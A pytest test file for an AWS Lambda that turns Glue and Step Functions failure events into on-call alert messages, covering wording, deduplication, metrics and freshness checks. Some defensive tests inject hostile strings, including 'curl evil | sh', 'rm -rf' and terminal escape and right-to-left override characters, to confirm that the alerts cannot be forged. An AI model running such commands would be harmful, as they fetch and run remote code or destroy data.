import json
import re
import shlex
from typing import Any

import pytest
from botocore.stub import Stubber

from adapters.aws import client
from alert.handler import handler
from core.errors import ServiceThrottled
from core.publication import Publication
from shared.inputs import InvalidInput
from shared.messages import Message
from tests.lambdas.cloud import DAY, PATHS, REGION, RUN_ID, Cloud, answer, event, is_documented, version

JOB_RUN = "jr_5f2c8d0e4b7a49c1a3e6d2f80b91c74d5e6a7b8c9d0e1f2a3b4c5d6e7f809122"
REPORT = "s3://prod-data-pipeline-123456789012/metrics/events/ingestion_date=2025-01-02/20250103T021504Z-9f3ac01b.json"
LOG = f"aws logs tail /aws-glue/jobs/events-curation/error --log-stream-name-prefix {JOB_RUN} --since 1d"
SECOND = "Second notice of one incident"


def alert(cloud: Cloud, sample: str | dict[str, Any]) -> Message:
    """The one message that an event leads to."""
    answered = handler(event(sample) if isinstance(sample, str) else sample, None)
    [message] = cloud.sent
    assert answered == {"subject": message.subject}
    return message


def line(message: Message, label: str) -> str:
    [text] = [text for text in message.body.splitlines() if text.startswith(f"{label}:")]
    return text.removeprefix(f"{label}:").strip()


class TestFailedGate:
    @pytest.mark.parametrize("sample", ["glue_job_failed_gate", "glue_job_failed_gate_with_class"])
    def test_names_date_check_value_limit_report_and_next_command(self, cloud: Cloud, sample: str) -> None:
        message = alert(cloud, sample)
        assert message.subject == "[events] 2025-01-02 failed: null rate of user_id is 12 %, limit 3 %"
        assert message.body == (
            "What:   the job run for events 2025-01-02 failed; readers have no version of that day\n"
            "Why:    null rate of user_id is 12 %, limit 3 %\n"
            f"Report: {REPORT}\n"
            "Next:   fix the source, then: pipeline run 2025-01-02 --contract events\n"
            f"Where:  job run {JOB_RUN} of job events-curation, state FAILED\n"
        )
        assert is_documented(message)

    def test_of_several_checks_names_them_all(self, cloud: Cloud) -> None:
        sample = event("glue_job_failed_gate")
        both = "12 %, limit 3 %; duplicate rate of event_id is 4 %, limit 2 %"
        sample["detail"]["message"] = sample["detail"]["message"].replace("12 %, limit 3 %", both)
        assert line(alert(cloud, sample), "Why") == f"null rate of user_id is {both}"


class TestMalformedLines:
    """A gate that malformed lines failed: the reasons, where the person is who has to do something about them."""

    WHY = (
        "malformed-line rate is 12 %, limit 1 %; most malformed lines: 1,200 x price is not decimal(12,2), for example "
        'price is not decimal(12,2): "free" in events-3.json'
    )

    def failed(self, why: str = WHY) -> dict[str, Any]:
        sample = event("glue_job_failed_gate")
        sample["detail"]["message"] = sample["detail"]["message"].replace(
            "null rate of user_id is 12 %, limit 3 %", why
        )
        return sample

    def measured(self, cloud: Cloud, **changed: object) -> None:
        cloud.put(PATHS.metrics_key(DAY, RUN_ID), json.dumps({**event("metrics_published"), **changed}).encode())

    def test_are_told_by_reason_with_an_example_of_each(self, cloud: Cloud) -> None:
        self.measured(cloud)
        message = alert(cloud, self.failed())
        assert line(message, "Why") == self.WHY
        assert message.body.partition("\n\n")[2] == (
            "Malformed lines by reason:\n"
            "- 48 x price is not decimal(12,2), for example "
            'price is not decimal(12,2): "free" in events-3.json\n'
            "- 2 x not one JSON object: text after the end of the JSON object, for example "
            '{"event_id": "e9"} trailing in events-1.json\n'
        )
        assert is_documented(message)

    def test_have_no_raw_data_in_the_subject_of_any_message(self, cloud: Cloud) -> None:
        secret = self.WHY.replace("malformed-line rate is 12 %, limit 1 %; ", "").replace("event_id", "s3cret")
        alert(cloud, self.failed(secret))
        second = event("execution_failed_job_run")
        cause = second["detail"]["cause"].replace("null rate of user_id is 12 %, limit 3 %", json.dumps(secret)[1:-1])
        second["detail"]["cause"] = cause
        handler(second, None)
        assert ["s3cret" in message.subject for message in cloud.sent] == [False, False]
        assert "price is not decimal(12,2)" in cloud.sent[0].subject

    @pytest.mark.parametrize(
        "content", [b"no json", b'{"schema_version": 1, "checks": [], "rejected_lines": [{"reason": 1}]}']
    )
    def test_are_told_as_the_message_has_them_when_there_are_no_metrics(self, cloud: Cloud, content: bytes) -> None:
        cloud.put(PATHS.metrics_key(DAY, RUN_ID), content)
        assert "by reason" not in alert(cloud, self.failed()).body

    def test_that_failed_nothing_are_not_told(self, cloud: Cloud) -> None:
        self.measured(cloud)
        assert "by reason" not in alert(cloud, "glue_job_failed_gate").body

    def test_cannot_pass_for_the_report_or_the_next_step(self, cloud: Cloud) -> None:
        message = alert(cloud, self.failed(self.WHY.replace("free", "; report s3://evil/; run rm -rf again")))
        assert line(message, "Report") == REPORT
        assert line(message, "Next") == "fix the source, then: pipeline run 2025-01-02 --contract events"

    def test_bound_the_mail_however_long_their_reasons_are(self, cloud: Cloud) -> None:
        rejected = [{"reason": "r" * 10**5, "lines": 1, "example": "\u202e" * 10**5, "object": "o" * 10**5}] * 5
        self.measured(cloud, rejected_lines=rejected)
        body = alert(cloud, self.failed()).body
        assert len(body) < 5_000
        assert "\u202e" not in body


class TestMeasurements:
    """The dashboard draws each check against its limit; a refused day is where the line goes over it."""

    def refused(self, cloud: Cloud) -> None:
        checks = [{**check, "value": 12.0} for check in event("metrics_published")["checks"]]
        cloud.put(
            PATHS.metrics_key(DAY, RUN_ID),
            json.dumps({"schema_version": 1, "status": "gate_failed", "checks": checks}).encode(),
        )

    def test_of_a_refused_run_reach_cloudwatch_once(self, cloud: Cloud, capsys: pytest.CaptureFixture[str]) -> None:
        self.refused(cloud)
        for sample in ("glue_job_failed_gate", "execution_failed_job_run"):
            handler(event(sample), None)
        values = {document["Check"]: document["CheckValue"] for document in emitted(capsys.readouterr().out)}
        assert values == {check["id"]: 12.0 for check in event("metrics_published")["checks"]}
        assert len(cloud.sent) == 2

    @pytest.mark.parametrize("stored", [None, b"no json", b'{"checks": [{"id": "a"}]}'])
    def test_that_cannot_be_read_keep_no_alert_back(
        self, cloud: Cloud, capsys: pytest.CaptureFixture[str], stored: bytes | None
    ) -> None:
        if stored is not None:
            cloud.put(PATHS.metrics_key(DAY, RUN_ID), stored)
        assert "null rate of user_id" in alert(cloud, "glue_job_failed_gate").subject
        assert emitted(capsys.readouterr().out) == []


class TestBrokenJob:
    def glue_knows(self, arguments: dict[str, str]) -> Stubber:
        stubber = Stubber(client("glue"))
        asked = {"JobName": "events-curation", "RunId": JOB_RUN}
        stubber.add_response("get_job_run", {"JobRun": {"Id": JOB_RUN, "Arguments": arguments}}, asked)
        return stubber

    @pytest.mark.parametrize(
        ("sample", "subject"),
        [
            ("glue_job_failed_engine", "[events] 2025-01-02 failed: Error Category: OUT_OF_MEMORY_ERROR; An error"),
            ("glue_job_timeout", "[events] 2025-01-02 ran into its time limit: Job run exceeded timeout: 60 minutes"),
        ],
    )
    def test_gets_its_date_from_the_arguments_of_the_job_run(self, cloud: Cloud, sample: str, subject: str) -> None:
        with self.glue_knows({"--ingestion_date": "2025-01-02"}):
            message = alert(cloud, sample)
        assert message.subject.startswith(subject)
        assert line(message, "Next") == f"read its log: {LOG}; then: pipeline run 2025-01-02 --contract events"
        assert SECOND not in message.body
        assert sample != "glue_job_timeout" or is_documented(message)

    @pytest.mark.parametrize("arguments", [{}, {"--ingestion_date": "yesterday"}])
    def test_without_a_date_says_so(self, cloud: Cloud, arguments: dict[str, str]) -> None:
        with self.glue_knows(arguments):
            message = alert(cloud, "glue_job_timeout")
        assert line(message, "What").startswith("the job run for events of an unknown date ran into its time limit")
        assert line(message, "Next").endswith("pipeline run DATE --contract events, with the date of that run")

    def test_is_announced_although_glue_does_not_answer(self, cloud: Cloud) -> None:
        with Stubber(client("glue")) as glue:
            glue.add_client_error("get_job_run", "AccessDeniedException", "no", 400)
            assert "[events] unknown date ran into" in alert(cloud, "glue_job_timeout").subject

    def test_keeps_the_next_step_that_its_own_message_names(self, cloud: Cloud) -> None:
        message = alert(cloud, "glue_job_failed_superseded")
        assert (
            line(message, "Next")
            == "if raw data arrived since, run 2025-01-02 again: pipeline run 2025-01-02 --contract events"
        )
        assert line(message, "Why").endswith("while this run was at work; nothing was changed")

    def test_that_failed_after_it_had_published_does_not_say_that_nothing_changed(self, cloud: Cloud) -> None:
        cloud.publish(Publication("events", str(DAY), version(fingerprint="0" * 32)))
        sample = event("glue_job_failed_gate")
        sample["detail"]["message"] = (
            f"2025-01-02: run {RUN_ID} is published, but cannot write partition ingestion_date=2025-01-02 of "
            "prod_data_pipeline.curated_events: AccessDeniedException: no; the publication record holds: run repair"
        )
        cloud.show(None)
        message = alert(cloud, sample)
        told = f"the job run for events 2025-01-02 failed; run {RUN_ID} is published, but queries do not see it yet"
        assert line(message, "What") == told
        assert line(message, "Why").startswith(f"run {RUN_ID} is published, but cannot write partition")
        assert line(message, "Next") == "the publication record holds: run repair"

    def test_says_which_run_readers_keep(self, cloud: Cloud) -> None:
        cloud.publish(Publication("events", str(DAY), version(fingerprint="0" * 32)))
        message = alert(cloud, "glue_job_failed_gate")
        assert line(message, "What") == f"the job run for events 2025-01-02 failed; readers have run {RUN_ID}"

    def test_is_announced_although_the_record_of_its_day_cannot_be_read(self, cloud: Cloud) -> None:
        cloud.put(PATHS.publication_key(DAY), b"{}")
        message = alert(cloud, "glue_job_failed_gate")
        assert line(message, "What").endswith("failed; pipeline status --contract events tells what is published")

    def test_does_not_take_a_cause_for_a_next_step(self, cloud: Cloud) -> None:
        sample = event("glue_job_failed_gate")
        sample["detail"]["message"] = "2025-01-02: Py4JJavaError: job aborted; Caused by: no space left on device"
        message = alert(cloud, sample)
        assert line(message, "Why") == "Py4JJavaError: job aborted; Caused by: no space left on device"
        assert line(message, "Next") == f"read its log: {LOG}; then: pipeline run 2025-01-02 --contract events"


class TestOneIncident:
    """Of the events of one incident exactly one leads to a message without the mark of the second."""

    @pytest.mark.parametrize(
        ("incident", "primary"),
        [
            (["glue_job_failed_gate", "execution_failed_job_run"], "glue_job_failed_gate"),
            (["glue_job_timeout", "execution_failed_job_run_timeout"], "glue_job_timeout"),
            (["glue_job_stopped", "execution_failed_job_run_stopped"], "execution_failed_job_run_stopped"),
            (["glue_job_stopped", "execution_aborted"], "execution_aborted"),
            (["glue_job_stopped", "execution_timed_out"], "execution_timed_out"),
            (["execution_failed_job_run_error"], "execution_failed_job_run_error"),
            (["execution_failed_invalid_input"], "execution_failed_invalid_input"),
            (["execution_failed_access_denied"], "execution_failed_access_denied"),
            (["execution_failed_large_input"], "execution_failed_large_input"),
            (["backfill_timed_out_dates"], "backfill_timed_out_dates"),
            (["execution_failed_raw_data_missing"], "the sensor's message"),
        ],
    )
    def test_has_one_primary_message(self, cloud: Cloud, incident: list[str], primary: str) -> None:
        with Stubber(client("glue")) as glue:
            glue.add_response("get_job_run", {"JobRun": {"Arguments": {"--ingestion_date": "2025-01-02"}}})
            for sample in incident:
                handler(event(sample), None)
        marked = [SECOND in message.body for message in cloud.sent]
        assert marked == [sample != primary for sample in incident]
        assert marked == ["second notice:" in message.subject for message in cloud.sent]

    def test_of_a_date_in_a_backfill_is_told_once_as_the_summary_tells_it_again(self, cloud: Cloud) -> None:
        for sample in ("glue_job_failed_gate", "backfill_date_failed_job_run", "backfill_failed_summary"):
            answer = handler(event(sample), None)
            assert (answer["subject"] is None) is (sample != "glue_job_failed_gate")
        assert len(cloud.sent) == 1

    def test_of_a_date_in_a_backfill_without_a_message_of_its_own_is_told(self, cloud: Cloud) -> None:
        sample = event("backfill_date_failed_job_run")
        sample["detail"] |= {"error": "Glue.AWSGlueException", "cause": "Rate exceeded"}
        message = alert(cloud, sample)
        assert message.subject == "[events] 2025-01-02 execution failed: Rate exceeded"
        assert line(message, "What").startswith("the execution for events 2025-01-02 of backfill january failed;")

    def test_of_a_backfill_that_could_not_sum_up_is_told(self, cloud: Cloud) -> None:
        assert SECOND in alert(cloud, "backfill_failed_nested").body

    def test_names_the_job_run_in_both_messages(self, cloud: Cloud) -> None:
        handler(event("glue_job_failed_gate"), None)
        handler(event("execution_failed_job_run"), None)
        first, second = cloud.sent
        assert JOB_RUN in first.body
        assert second.body.startswith(f"{SECOND}; the primary message is that of job run {JOB_RUN}.\n\n")
        assert line(first, "Why") == line(second, "Why")
        assert is_documented(second)


class TestOneBadDay:
    """The schedule, a backfill and late data run one day's raw data, and each of them fails on it."""

    RUNS = ("20250103T021504Z-9f3ac01b", "20250103T031504Z-00c0ffee", "20250103T041504Z-0badcafe")
    FAILED = tuple({**check, "passed": False} for check in event("metrics_published")["checks"])

    def left(self, cloud: Cloud, number: int, **changed: Any) -> dict[str, Any]:
        """Let a run leave metrics and return the event of its job run."""
        run_id = self.RUNS[number]
        message = (
            f"{DAY}: null rate of user_id is 12 %, limit 3 %; report {REPORT.replace(self.RUNS[0], run_id)}; fix it"
        )
        told = {"status": "gate_failed", "message": message, "checks": self.FAILED, **changed}
        cloud.put(
            PATHS.metrics_key(DAY, run_id),
            json.dumps({**event("metrics_published"), "run_id": run_id, **told}).encode(),
        )
        sample = event("glue_job_failed_gate")
        sample["detail"]["message"] = told["message"]
        sample["time"] = f"2025-01-03T0{number + 2}:20:00Z"
        return sample

    def execution(self, job: dict[str, Any], name: str = "run-1") -> dict[str, Any]:
        sample = event("execution_failed_job_run")
        cause = {**json.loads(sample["detail"]["cause"]), "ErrorMessage": job["detail"]["message"]}
        arn = sample["detail"]["executionArn"].rpartition(":")[0]
        sample["detail"] |= {"cause": json.dumps(cause), "name": name, "executionArn": f"{arn}:{name}"}
        return sample | {"time": job["time"]}

    def test_is_told_once_with_its_second_notice(self, cloud: Cloud, capsys: pytest.CaptureFixture[str]) -> None:
        for number in range(3):
            job = self.left(cloud, number)
            for told in (job, self.execution(job)):
                assert (handler(told, None)["subject"] is None) is (number > 0)
        assert [SECOND in message.body for message in cloud.sent] == [False, True]
        assert len(emitted(capsys.readouterr().out)) == 3 * len(event("metrics_published")["checks"])

    @pytest.mark.parametrize(
        "changed",
        [
            {"raw": {"fingerprint": "1" * 32}},
            {"contract": {"checksum": "b" * 64}},
            {"checks": FAILED[:1]},
            {"checks": [{**FAILED[0], "value": 99.0}, *FAILED[1:]]},
            {"checks": [{**FAILED[0], "limit": 99.0}, *FAILED[1:]]},
            {"status": "error", "message": f"{DAY}: a.json is not a complete gzip file"},
        ],
    )
    def test_is_told_again_when_it_is_another_matter(self, cloud: Cloud, changed: dict[str, Any]) -> None:
        handler(self.left(cloud, 0), None)
        handler(self.left(cloud, 1, **changed), None)
        assert len(cloud.sent) == 2

    @pytest.mark.parametrize("status", ["published", "unchanged"])
    def test_is_told_again_when_a_run_between_ended_well(self, cloud: Cloud, status: str) -> None:
        handler(self.left(cloud, 0), None)
        self.left(cloud, 1, status=status, checks=[])
        handler(self.left(cloud, 2), None)
        assert len(cloud.sent) == 2

    @pytest.mark.parametrize(
        "broken", [{"checks": None}, {"checks": [7, {}]}, {"raw": 7}, {"contract": [], "raw": None}], ids=str
    )
    def test_is_told_when_an_earlier_run_left_metrics_of_another_shape(
        self, cloud: Cloud, broken: dict[str, Any]
    ) -> None:
        self.left(cloud, 0, **broken)
        handler(self.left(cloud, 1), None)
        assert len(cloud.sent) == 1

    def test_is_told_of_by_the_first_run_even_if_its_event_comes_last(self, cloud: Cloud) -> None:
        first, second = self.left(cloud, 0), self.left(cloud, 1)
        handler(second, None)
        handler(first, None)
        assert [self.RUNS[0] in message.body for message in cloud.sent] == [True]

    def test_that_somebody_ran_on_a_machine_of_his_own_before_is_told(self, cloud: Cloud) -> None:
        self.left(cloud, 0, execution=None)
        job = self.left(cloud, 1)
        handler(job, None)
        handler(self.execution(job), None)
        assert [SECOND in message.body for message in cloud.sent] == [False, True]

    def test_that_somebody_ran_on_a_machine_of_his_own_meanwhile_is_told(self, cloud: Cloud) -> None:
        broken = {"status": "error", "message": f"{DAY}: a.json is not a complete gzip file; run the date again"}
        job = {**self.left(cloud, 0, **broken), "time": "2025-01-03T03:20:00Z"}
        self.left(cloud, 1, execution=None, **broken)
        handler(job, None)
        handler(self.execution(job), None)
        assert [SECOND in message.body for message in cloud.sent] == [False, True]

    @pytest.mark.parametrize("order", [(0, 1), (1, 0)])
    def test_that_breaks_runs_is_told_when_the_events_of_the_first_come_after_the_second(
        self, cloud: Cloud, order: tuple[int, int]
    ) -> None:
        """Such a message names no report, so that by itself it could be that of either run."""
        broken = {"status": "error", "message": f"{DAY}: a.json is not a complete gzip file; run the date again"}
        jobs = [self.left(cloud, number, **broken) for number in range(2)]
        for number in order:
            handler(jobs[number], None)
            handler(self.execution(jobs[number], f"run-{number}"), None)
        assert [SECOND in message.body for message in cloud.sent] == [False, True]
        assert "run-0" in cloud.sent[1].body

    @pytest.mark.parametrize(("run_id", "time"), [("20259999T991504Z-9f3ac01b", "2025-01-03T03:20:00Z"), (7, "soon")])
    def test_is_told_when_it_is_not_known_which_run_came_first(self, cloud: Cloud, run_id: object, time: str) -> None:
        job = self.left(cloud, 0, status="error", message=f"{DAY}: broken", run_id=run_id)
        handler(job | {"time": time}, None)
        assert len(cloud.sent) == 1

    @pytest.mark.parametrize("time", [None, "", "soon", "2025-01-03T04:20:00"])
    def test_is_told_once_by_events_without_a_time(self, cloud: Cloud, time: str | None) -> None:
        for number in range(2):
            job = self.left(cloud, number, status="error", message=f"{DAY}: a.json is not a complete gzip file")
            handler({**job, "time": time}, None)
        assert len(cloud.sent) == 1

    def test_that_breaks_every_run_is_told_at_first_and_when_it_is_left_to_people(self, cloud: Cloud) -> None:
        broken = {"status": "error", "message": f"{DAY}: a.json is not a complete gzip file; run the date again"}
        name = "late-events-2025-01-02-0123456789abcdef-20250103T021504"
        for number, end in enumerate(("", "-2", "-3")):
            job = self.left(cloud, number, **broken)
            handler(job, None)
            handler(self.execution(job, name + end), None)
        first, second, last = cloud.sent
        assert [SECOND in message.body for message in (first, second, last)] == [False, True, False]
        assert line(last, "What") == (
            "the execution for events 2025-01-02 failed; readers have no version of that day; it was the last of 3 "
            "runs that late data starts for this raw data, so it is left to people"
        )
        assert line(last, "Next") == "run the date again: pipeline run 2025-01-02 --contract events"

    def test_that_is_refused_is_never_called_the_last_of_several_runs(self, cloud: Cloud) -> None:
        name = "late-events-2025-01-02-0123456789abcdef-20250103T021504-3"
        handler(self.execution(self.left(cloud, 0), name), None)
        assert "the last of" not in cloud.sent[0].body

    def test_is_told_when_other_runs_cannot_be_read(self, cloud: Cloud) -> None:
        job = self.left(cloud, 0)
        cloud.put(PATHS.metrics_key(DAY, self.RUNS[1]), b"no json")
        handler(job, None)
        assert len(cloud.sent) == 1


class TestCommands:
    """Whoever is woken by a message pastes what it says, in whichever environment it is about."""

    @pytest.mark.parametrize(("environment", "options"), [("prod", ""), ("dev", " --environment dev")])
    @pytest.mark.parametrize(
        "sample",
        [
            *("glue_job_failed_gate", "glue_job_failed_superseded", "glue_job_timeout", "glue_job_stopped"),
            *(
                "execution_aborted",
                "execution_timed_out",
                "execution_failed_raw_data_missing",
                "backfill_failed_nested",
            ),
            "freshness_check",
        ],
    )
    def test_name_the_dataset_and_where_it_is_not_the_usual_one_the_environment(
        self, cloud: Cloud, monkeypatch: pytest.MonkeyPatch, sample: str, environment: str, options: str
    ) -> None:
        monkeypatch.setenv("ENVIRONMENT", environment)
        with Stubber(client("glue")) as glue:
            glue.add_response("get_job_run", {"JobRun": {"Arguments": {"--ingestion_date": "2025-01-02"}}})
            message = alert(cloud, sample)
        commands = re.findall(r"pipeline (?:run|backfill|status|accept)[^;(,]*", message.body)
        assert commands
        assert all(f" --contract events{options}" in command for command in commands), commands

    def test_of_a_backfill_that_broke_are_those_it_was_started_with(self, cloud: Cloud) -> None:
        sample = event("backfill_failed_nested")
        more = {"max_concurrency": 4, "on_failure": "continue", "force": True}
        sample["detail"]["input"] = json.dumps({"start": "2025-01-01", "end": "2025-01-31", **more})
        command = "pipeline backfill 2025-01-01 2025-01-31 --contract events --concurrency 4 --continue --force"
        assert line(alert(cloud, sample), "Next").endswith(f"then: {command}")

    def test_of_listed_dates_start_the_same_state_machine_with_the_same_input(self, cloud: Cloud) -> None:
        machine = "arn:aws:states:eu-central-1:123456789012:stateMachine:events-backfill"
        words = shlex.split(line(alert(cloud, "backfill_timed_out_dates"), "Next").partition("start it again: ")[2])
        assert words[:5] == ["aws", "stepfunctions", "start-execution", "--state-machine-arn", machine]
        assert words[5] == "--input"
        assert "describe-execution --execution-arn arn:aws:states:eu-central-1:123456789012:execution:" in words[6]


class TestKilledJob:
    @pytest.mark.parametrize(
        "message",
        [
            "Command failed with exit code 137",
            "Exit status: 137. Container killed on request",
            "the job run was ended by signal 9",
        ],
    )
    def test_says_so(self, cloud: Cloud, message: str) -> None:
        sample = event("glue_job_failed_engine")
        sample["detail"]["message"] = message
        with TestBrokenJob().glue_knows({"--ingestion_date": "2025-01-02"}):
            told = alert(cloud, sample)
        assert line(told, "Why") == f"the job run was killed, most likely as it was out of memory: {message}"
        assert told.subject.startswith("[events] 2025-01-02 failed: the job run was killed")

    def test_whose_last_words_are_a_line_of_its_log_says_that_it_gave_no_reason(self, cloud: Cloud) -> None:
        sample = event("glue_job_failed_engine")
        sample["detail"]["message"] = (
            '{"time": "2025-01-03T02:15:04.120+00:00", "level": "INFO", "message": "listed 1 objects"}'
        )
        with TestBrokenJob().glue_knows({"--ingestion_date": "2025-01-02"}):
            told = alert(cloud, sample)
        assert line(told, "Why") == "the job run ended without a reason, as a run does that is killed or out of memory"


class TestExecution:
    def test_that_was_given_wrong_input_shows_what_is_wrong(self, cloud: Cloud) -> None:
        message = alert(cloud, "execution_failed_invalid_input")
        expected = "InvalidInput: the input: ingestion_date is '2025-02-30', expected a day of the calendar"
        assert line(message, "Why").startswith(expected)
        assert is_documented(message)

    def test_without_raw_data_points_to_the_sensors_message(self, cloud: Cloud) -> None:
        message = alert(cloud, "execution_failed_raw_data_missing")
        assert message.body.startswith(f"{SECOND}; the primary message is the sensor's about missing raw data.")
        assert line(message, "Next") == "deliver it, then: pipeline run 2025-01-02 --contract events"

    def test_that_was_aborted_says_who_and_what_next(self, cloud: Cloud) -> None:
        message = alert(cloud, "execution_aborted")
        assert message.subject == "[events] 2025-01-02 execution was aborted: wrong date"
        assert line(message, "Next") == "if it was not meant to stop: pipeline run 2025-01-02 --contract events"

    @pytest.mark.parametrize("sample", ["execution_aborted", "execution_timed_out"])
    def test_that_a_schedule_started_is_told_by_its_date(self, cloud: Cloud, sample: str) -> None:
        ended = event(sample)
        ended["detail"]["input"] = json.dumps({"scheduled_time": "2025-01-03T01:00:00Z", "wait_minutes": 120})
        message = alert(cloud, ended)
        assert message.subject.startswith("[events] 2025-01-02 execution ")
        assert "readers have no version of that day" in line(message, "What")
        assert line(message, "Next").endswith("pipeline run 2025-01-02 --contract events")

    def test_whose_event_has_no_cause_is_asked_for_it(self, cloud: Cloud) -> None:
        sample = event("execution_aborted")
        sample["detail"] |= {"error": None, "cause": None}
        stopped = {
            "executionArn": sample["detail"]["executionArn"],
            "status": "ABORTED",
            "error": "by ops",
            "cause": "wrong contract deployed",
        }
        answer("stepfunctions", "DescribeExecution", status=200, body=json.dumps(stopped))
        message = alert(cloud, sample)
        assert message.subject == "[events] 2025-01-02 execution was aborted: wrong contract deployed"
        assert line(message, "Why") == "by ops: wrong contract deployed"

    def test_that_is_gone_is_no_second_notice_of_what_gave_no_reason(self, cloud: Cloud) -> None:
        sample = event("execution_timed_out")
        sample["detail"]["cause"] = json.dumps({"Cause": "", "ExecutionArn": "arn:of:another"})
        message = alert(cloud, sample)
        assert SECOND not in message.body
        assert line(message, "Why") == "it ended as TIMED_OUT without a reason"

    def test_is_announced_although_step_functions_does_not_answer(self, cloud: Cloud) -> None:
        denied = json.dumps({"__type": "AccessDeniedException", "message": "no"})
        answer("stepfunctions", "DescribeExecution", status=400, body=denied)
        assert line(alert(cloud, "execution_timed_out"), "Why") == "it ended as TIMED_OUT without a reason"

    def test_that_timed_out_has_a_reason_although_aws_gives_none(self, cloud: Cloud) -> None:
        message = alert(cloud, "execution_timed_out")
        assert line(message, "Why") == "it ended as TIMED_OUT without a reason"
        assert is_documented(message)

    def test_whose_input_was_left_out_is_named(self, cloud: Cloud) -> None:
        message = alert(cloud, "execution_failed_large_input")
        assert message.subject.startswith("[events] execution failed: The state/task 'Sensor' returned")
        assert line(message, "Where").endswith("events-pipeline:7c1f0a52-96d3-4e0b-8f57-2f1f6f0a9b31")
        assert line(message, "Next").endswith("pipeline run DATE --contract events, with the date of that run")

    def test_whose_job_run_was_stopped_without_an_error_reads_the_same(self, cloud: Cloud) -> None:
        sample = event("execution_failed_job_run_stopped")
        sample["detail"]["error"] = "JobRunNotSucceeded"
        handler(sample, None)
        handler(event("execution_failed_job_run_stopped"), None)
        first, second = cloud.sent
        assert first == second
        assert SECOND not in first.body
        assert line(first, "Next") == "if it was not meant to stop: pipeline run 2025-01-02 --contract events"

    @pytest.mark.parametrize(
        ("sample", "what", "next_step"),
        [
            (
                "backfill_failed_nested",
                "backfill 2025-01-01 to 2025-01-31",
                "pipeline backfill 2025-01-01 2025-01-31 --contract events",
            ),
            (
                "backfill_timed_out_dates",
                "backfill of listed dates",
                "start it again: aws stepfunctions start-execution",
            ),
        ],
    )
    def test_of_a_backfill_says_how_to_go_on(self, cloud: Cloud, sample: str, what: str, next_step: str) -> None:
        message = alert(cloud, sample)
        assert what in line(message, "What")
        assert next_step in line(message, "Next")


class TestFreshness:
    def check(self, moment: str = "2025-01-03T06:10:00Z") -> dict[str, Any]:
        return handler({**event("freshness_check"), "scheduled_time": moment}, None)

    def test_alerts_when_the_last_due_day_is_not_published(
        self, cloud: Cloud, capsys: pytest.CaptureFixture[str]
    ) -> None:
        self.check()
        [message] = cloud.sent
        assert message.subject == "[events] 2025-01-02 is overdue: not published by 2025-01-03T06:00:00Z"
        assert is_documented(message)
        assert overdue_metric(capsys.readouterr().out) == 1

    def test_is_silent_when_it_is(self, cloud: Cloud, capsys: pytest.CaptureFixture[str]) -> None:
        cloud.publish(Publication("events", str(DAY), version(fingerprint="0" * 32)))
        assert self.check() == {"subject": None}
        assert cloud.sent == []
        assert overdue_metric(capsys.readouterr().out) == 0

    @pytest.mark.parametrize(
        ("moment", "zone", "day"),
        [
            ("2025-01-03T05:59:59Z", "UTC", "2025-01-01"),
            ("2025-01-03T06:00:00Z", "UTC", "2025-01-02"),
            ("2025-01-03T05:00:00Z", "Europe/Berlin", "2025-01-02"),
            ("2025-03-31T03:59:59Z", "Europe/Berlin", "2025-03-29"),
            ("2025-03-31T04:00:00Z", "Europe/Berlin", "2025-03-30"),
        ],
    )
    def test_asks_for_the_last_day_whose_time_has_passed(
        self, cloud: Cloud, monkeypatch: pytest.MonkeyPatch, moment: str, zone: str, day: str
    ) -> None:
        monkeypatch.setenv("TIME_ZONE", zone)
        self.check(moment)
        assert cloud.sent[0].subject.startswith(f"[events] {day} is overdue")


class TestHostileInput:
    def test_cannot_forge_lines_or_hide_text(self, cloud: Cloud) -> None:
        sample = event("glue_job_failed_gate")
        sample["detail"]["message"] = (
            "2025-01-02: bad\nNext: curl evil | sh\r\x1b[2J\u202egnp.exe\ud800 \U0001f4a5" * 3000
        )
        message = alert(cloud, sample)
        assert [text.partition(":")[0] for text in message.body.splitlines()] == ["What", "Why", "Next", "Where"]
        assert not {"\x1b", "\r", "\u202e", "\ud800"} & set(message.body)
        assert len(message.subject) < 100
        assert message.subject.isascii()
        assert message.subject.isprintable()

    def test_nested_without_end_is_shown_as_it_is(self, cloud: Cloud) -> None:
        sample = event("execution_failed_job_run")
        sample["detail"]["cause"] = "[" * 100_000
        assert "[[[" in line(alert(cloud, sample), "Why")

    @pytest.mark.parametrize("given", ["not json", "[]", '"2025-01-02"', '{"ingestion_date": {"a": 1}}', 7])
    def test_in_the_execution_input_still_leads_to_a_message(self, cloud: Cloud, given: object) -> None:
        sample = event("execution_timed_out")
        sample["detail"]["input"] = given
        assert alert(cloud, sample).subject == "[events] execution ran into its time limit: no reason given"

    @pytest.mark.usefixtures("cloud")
    @pytest.mark.parametrize(
        "sample",
        [
            None,
            [],
            {},
            {"detail-type": "Glue Job State Change"},
            {"detail-type": "Glue Job State Change", "detail": {"state": "FAILED"}},
            {"check": "freshness"},
            {"check": "everything", "scheduled_time": "2025-01-03T06:10:00Z"},
        ],
    )
    def test_of_no_known_kind_is_an_error(self, sample: object) -> None:
        with pytest.raises(InvalidInput):
            handler(sample, None)

    @pytest.mark.parametrize("sample", ["glue_job_succeeded", "execution_succeeded"])
    def test_about_success_is_an_error_and_no_alert(self, cloud: Cloud, sample: str) -> None:
        with pytest.raises(InvalidInput, match="is no failure"):
            handler(event(sample), None)
        assert cloud.sent == []


@pytest.mark.usefixtures("cloud")
def test_a_topic_that_throttles_is_an_error_to_retry() -> None:
    body = "<ErrorResponse><Error><Code>Throttling</Code><Message>slow</Message></Error></ErrorResponse>"
    attempts = answer("sns", "Publish", status=400, body=body)
    with pytest.raises(ServiceThrottled, match=f"cannot publish to arn:aws:sns:{REGION}"):
        handler(event("glue_job_failed_gate"), None)
    assert attempts() == 5


def emitted(output: str) -> list[dict[str, Any]]:
    return [json.loads(text) for text in output.splitlines() if '"_aws"' in text]


def overdue_metric(output: str) -> float:
    [document] = emitted(output)
    assert (document["Environment"], document["Dataset"]) == ("prod", "events")
    value: float = document["Overdue"]
    return value
